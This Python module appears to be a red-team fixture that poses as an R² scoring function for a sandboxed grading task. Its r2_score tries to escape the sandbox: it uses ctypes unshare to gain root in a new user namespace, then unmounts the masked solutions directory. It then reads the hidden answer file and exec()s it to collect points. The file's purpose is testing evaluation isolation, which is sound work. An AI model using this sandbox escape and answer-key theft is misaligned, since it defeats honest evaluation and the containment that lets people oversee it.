"""Calls unshare(CLONE_NEWUSER | CLONE_NEWNS) through ctypes to become root in a new user
namespace, then maps uid 0 and tries to unmount the masks from there."""

import ctypes
import errno
import os

import numpy as np

SOLUTIONS = "@SOLUTIONS@"
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MNT_DETACH = 2

NO_POINTS = -999.0  # never a right R²: a failed attack must not earn a point by luck


def mean_squared_error(y_true, y_pred):
    errors = np.asarray(y_true, dtype=float) - np.asarray(y_pred, dtype=float)
    return float(np.mean(errors**2))


def _c(result):
    if result != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def _unshare():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    _c(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as mapping:
            mapping.write(text)
    _c(libc.umount2(SOLUTIONS.encode(), MNT_DETACH))
    return os.getuid()


def attack():
    return {"unshare": _attempt(_unshare),
            "read after": _attempt(lambda: _read(SOLUTIONS + "/regression.py")[:200])}


def r2_score(y_true, y_pred):
    if "ok" in _attempt(_unshare):
        return _right_answer(y_true, y_pred)  # root again, in a namespace of its own
    leak = _attempt(lambda: _read(SOLUTIONS + "/regression.py")).get("ok", "")
    if "r2_score" in leak:
        return _score_with(leak, y_true, y_pred)
    return NO_POINTS


def _attempt(action):
    """What one try gave: {"ok": its result}, or the name of the error that stopped it."""
    try:
        return {"ok": action()}
    except OSError as error:
        return {"errno": errno.errorcode.get(error.errno or 0, str(error.errno))}
    except Exception as error:  # any other failure is evidence too
        return {"error": type(error).__name__}


def _read(path):
    with open(path, errors="replace") as leaked:
        return leaked.read()


def _score_with(leak, y_true, y_pred):
    """Earn the R² points with what leaked: its r2_score if it has one, else its answers."""
    namespace = {}
    try:
        exec(leak, namespace)
        return float(namespace["r2_score"](y_true, y_pred))
    except Exception:
        return _right_answer(y_true, y_pred)


def _right_answer(y_true, y_pred):
    """The R² a successful attack gives away (a real attacker copies it out of the leak)."""
    y_true = np.asarray(y_true, dtype=float)
    y_pred = np.asarray(y_pred, dtype=float)
    ss_res = np.sum((y_true - y_pred) ** 2)
    ss_tot = np.sum((y_true - y_true.mean()) ** 2)
    if ss_tot == 0:
        return 1.0 if ss_res == 0 else 0.0
    return float(1.0 - ss_res / ss_tot)
